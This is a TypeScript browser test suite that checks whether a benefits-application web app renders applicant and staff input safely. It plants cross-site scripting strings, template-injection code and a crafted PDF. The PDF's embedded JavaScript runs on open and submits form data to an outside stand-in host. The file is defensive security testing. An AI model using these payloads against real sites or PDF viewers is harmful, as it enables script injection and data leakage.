/** What people and staff write is shown as they wrote it, and never run: names, notes, messages, names of files, and PDFs with a script in them. */
import { beforeAll, expect, test } from "vitest";
import { withBrowser } from "../support/browser.ts";
import { PATIENT } from "../support/patience.ts";
import { Person, PHOTO } from "../support/person.ts";
import { Reviewer } from "../support/reviewer.ts";
import { mailsTo } from "../support/sandbox-mail.ts";
import { type RunningServer, runningLatchkey } from "../support/running-server.ts";
import { answered } from "../support/states.ts";
import { isAwake } from "../support/tour.ts";
import { WirePerson } from "../support/wire-person.ts";

const EMAIL = "markup@example.com";
/** Each says which of them ran. */
const markup = (n: number): string => `<img src=x onerror=alert(${n})>`;
const [FIRST, LAST, EMPLOYER, MESSAGE, NOTE, WAIVED] = [1, 2, 3, 4, 5, 6].map(markup) as [string, string, string, string, string, string];
const SCRIPT = `</script><script>alert(7)</script>{{constructor.constructor('alert(8)')()}}`;
const FILE = `"><svg onload=alert(9)>.pdf`;

/** Runs as it is opened, as its page is, and behind its link, in whatever runs what a PDF asks for. */
function pdfWithScripts(): Uint8Array<ArrayBuffer> {
  const js = (n: number): string => `<< /S /JavaScript /JS (alert\\(${n}\\); app.alert\\(${n}\\); this.submitForm\\('https://elsewhere.example'\\)) >>`;
  const paint = "0.5 g 99 99 402 402 re f";
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js(10)} /AA << /WC ${js(11)} >> /Names << /JavaScript << /Names [(x) ${js(12)}] >> >> >>`,
    "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
    `<< /Length ${paint.length} >>\nstream\n${paint}\nendstream`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /AA << /O ${js(13)} >> /Annots [5 0 R 6 0 R] >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:alert\\(14\\)) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (t) /Rect [0 0 99 99] /AA << /K ${js(15)} >> >>`,
  ];
  let text = "%PDF-1.7\n";
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return new TextEncoder().encode(text);
}

let latchkey: RunningServer;
let application: string;
let person: string;
const browser = withBrowser();
const as = (who: WirePerson, path: string, body: object): Promise<Record<string, unknown>> =>
  who.api(path, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });

beforeAll(async () => {
  latchkey = await runningLatchkey();
  const ada = new WirePerson(latchkey.url, EMAIL, "demo-seattle");
  await ada.signIn();
  const admin = new WirePerson(latchkey.url, "admin@example.com", "");
  await admin.signIn();
  await answered(ada);
  const upload = async (name: string, content: BlobPart, type: string): Promise<string> => {
    const body = new FormData();
    body.set("purpose", type === "application/pdf" ? "applicant_income" : "applicant_identity");
    body.set("file", new File([content], name, { type }));
    return (await ada.api<{ id: string }>("files/", { method: "POST", body })).id;
  };
  await ada.save("applicant", { first_name: FIRST, last_name: LAST, photo_id: await upload(`'><script>alert(16)</script>.png`, PHOTO.buffer, "image/png") });
  await ada.save("income", { company_name: EMPLOYER, job_title: SCRIPT, document: await upload(FILE, pdfWithScripts(), "application/pdf") });
  await ada.command("/support", "send-support-message", { message: `${MESSAGE} ${SCRIPT}`, email: null });
  application = (await ada.application()).id;
  await as(admin, `staff/applications/${application}/waive-fee`, { reason: `${WAIVED} ${SCRIPT}` });
  await ada.finishForm();
  await as(admin, `staff/applications/${application}/notes`, { text: `${NOTE} ${SCRIPT}` });
  person = String((await (await Reviewer.comes(latchkey.url)).finds(EMAIL))["person"]);
});

/** A page on which whatever runs, or is kept from it by the policy, fails the test. */
async function watched(): Promise<{ who: Person; ran: string[] }> {
  const page = await browser.open();
  const ran: string[] = [];
  page.context().on("dialog", (dialog) => {
    ran.push(`${dialog.message()} at ${page.url()}`);
    void dialog.dismiss();
  });
  await page.context().exposeFunction("refusedByPolicy", (what: string) => void ran.push(what));
  await page.context().addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) =>
      (window as unknown as { refusedByPolicy(what: string): void }).refusedByPolicy(`${violatedDirective} ${blockedURI} ${sample} at ${location.href}`),
    );
  });
  return { who: new Person(page, latchkey.url), ran };
}
/** What nobody wrote as an element isn't one, in the page or in any frame of it. */
const elementsOf = async ({ page }: Person): Promise<number[]> =>
  Promise.all(page.frames().map((frame) => frame.locator('img[src="x"], [onerror], [onload], a[href^="javascript:"]').count()));

test("of somebody's own pages nothing runs, and they read what they wrote", async () => {
  const { who, ran } = await watched();
  await who.signIn(EMAIL, "/application/demo-seattle/review");
  for (const path of ["/applications", "/account/data", "/application/demo-seattle/review", "/application/demo-seattle/review/sent"]) {
    await who.page.goto(latchkey.url + path);
    await isAwake(who.page);
    expect((await elementsOf(who)).filter(Boolean), path).toEqual([]);
  }
  for (const text of [FIRST, EMPLOYER]) await who.page.getByText(text).first().waitFor();
  await expect.poll(async () => (await mailsTo(latchkey.url, EMAIL)).length, PATIENT).toBeGreaterThan(0);
  const mails = await mailsTo(latchkey.url, EMAIL);
  await who.page.goto(`${latchkey.url}/sandbox/mail`);
  await who.page.getByText(mails[0]!.subject).first().waitFor();
  expect([ran, (await elementsOf(who)).filter(Boolean)]).toEqual([[], []]);
});

test("in the console nothing runs: in the queue, the case with its papers and letters, the person's page and their message", async () => {
  const { who, ran } = await watched();
  const { page } = who;
  await who.signIn("admin@example.com", `/console/queue?view=open&search=${EMAIL}`);
  const shows = async (path: string, ...texts: string[]): Promise<void> => {
    await page.goto(latchkey.url + path);
    for (const text of texts) await page.getByText(text).first().waitFor();
    expect((await elementsOf(who)).filter(Boolean), path).toEqual([]);
  };
  await shows(`/console/people/${person}`, NOTE, MESSAGE);
  await shows("/console/cases", MESSAGE);
  await page.locator("li").filter({ hasText: MESSAGE }).getByRole("link").first().click();
  await page.getByRole("textbox").first().waitFor();
  await shows(`/console/queue?view=open&search=${EMAIL}`, `${FIRST} ${LAST}`);
  await shows(`/console/applications/${application}`, NOTE, EMPLOYER);
  await page.getByRole("region", { name: "Timeline" }).getByRole("button", { name: /^All/ }).click();
  await page.getByText(WAIVED).first().waitFor();
  await page.getByRole("tab", { name: "Photo ID" }).first().click();
  await page.getByRole("img", { name: "Photo ID" }).first().waitFor();
  await page.getByRole("tab", { name: "Proof of income" }).first().click();
  await page.getByRole("img", { name: /, 1 \/ 1$/ }).click();
  await page
    .getByRole("region", { name: "Decision" })
    .getByRole("button", { name: /^Reject/ })
    .first()
    .click();
  await page.locator("iframe").first().contentFrame().getByText(FIRST).first().waitFor();
  expect([ran, (await elementsOf(who)).filter(Boolean)]).toEqual([[], []]);
});
